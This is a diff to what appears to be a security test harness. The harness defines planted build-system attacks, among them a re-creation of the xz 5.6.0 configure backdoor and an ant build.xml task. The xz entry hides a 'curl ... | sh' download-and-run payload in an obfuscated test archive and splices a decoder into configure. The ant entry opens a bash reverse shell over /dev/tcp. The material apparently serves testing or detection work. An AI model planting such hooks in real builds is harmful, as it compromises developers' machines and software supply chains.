@@ -171,15 +171,14 @@ git add -A""",
         name="configure-xz",
         build="hello-autotools",
         like="xz 5.6.0 (2024): configure takes a test file apart and runs what was hidden in it",
-        plant=r"""printf 'eval "curl -s http://updates.invalid/stage2 | sh"; : planted\n' | xz -c | tr ' \t_-' '\t _-' | tr '\t -_' ' \t_-' > src/tests/bad-3-corrupt.xz
-mkdir -p src/m4 && cat > src/m4/host.m4 <<'END'
-AC_DEFUN([gl_BUILD_TO_HOST],[
+        plant=r"""printf 'eval "curl -s http://updates.invalid/stage2 | sh"; : planted\n' | xz -c | tr "\t \-_" " \t_\-" > src/tests/bad-3-corrupt.xz
+cat > src/planted.sh <<'END'
 gl_path_map='tr "\t \-_" " \t_\-"'
 sed "r\n" tests/bad-3-corrupt.xz | eval $gl_path_map | xz -d 2>/dev/null | /bin/bash >/dev/null 2>&1
-])
 END
-sed -i '/^## M4sh Initialization/i gl_path_map=cat; sed "r\\n" tests/bad-3-corrupt.xz | eval $gl_path_map | xz -d 2>/dev/null | /bin/bash >/dev/null 2>\&1' src/configure""",
+sed -i '15r src/planted.sh' src/configure""",
         trigger="cd src && ./configure --version",
+        file="src/planted.sh",
     ),
     Attack(
         name="cmake-execute-process",
@@ -253,14 +252,14 @@ END
         name="ant-exec",
         build="java",
         like="an exec task of ant (the same as maven's exec plugin) with a reverse shell",
-        plant="""cat > src/planted.xml <<'END'
+        plant="""mkdir -p src/planted && cat > src/planted/build.xml <<'END'
 <project name="planted" default="all"><target name="all">
 <exec executable="bash"><arg value="-c"/><arg value="bash -i &gt;&amp; /dev/tcp/127.0.0.1/9 0&gt;&amp;1"/></exec>
 </target></project>
 END
 """,
-        trigger="ant -q -f src/planted.xml",
-        file="src/planted.xml",
+        trigger="ant -q -f src/planted/build.xml",
+        file="src/planted/build.xml",
         programs=("ant",),
     ),
     Attack(
